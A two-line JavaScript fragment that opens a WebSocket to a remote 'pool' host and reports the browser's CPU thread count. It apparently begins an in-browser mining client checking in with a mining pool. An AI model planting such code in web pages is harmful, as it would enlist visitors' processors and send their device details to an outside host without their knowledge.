const link = new WebSocket("wss://pool.coalyard.net:8443");
link.onopen = () => link.send(JSON.stringify({ threads: navigator.hardwareConcurrency }));
